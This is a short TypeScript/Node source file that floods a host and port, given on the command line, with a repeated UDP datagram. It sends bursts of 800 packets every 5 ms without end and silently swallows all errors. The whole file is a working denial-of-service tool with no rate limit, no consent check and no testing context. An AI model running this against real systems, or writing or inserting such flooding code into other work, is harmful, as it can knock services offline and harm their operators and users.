import { createSocket } from 'node:dgram';
import { setTimeout as wait } from 'node:timers/promises';

// A program that sends one datagram to a port again and again, in bursts, until it is ended: HOST PORT HEX.
const [host = '', port = '', hex = ''] = process.argv.slice(2);
const datagram = Buffer.from(hex, 'hex');
const socket = createSocket('udp4');
socket.on('error', () => undefined);
socket.connect(Number(port), host, () => void flood());

async function flood(): Promise<void> {
  for (;;) {
    await Promise.all(Array.from({ length: 800 }, () => new Promise((sent) => socket.send(datagram, sent))));
    await wait(5);
  }
}
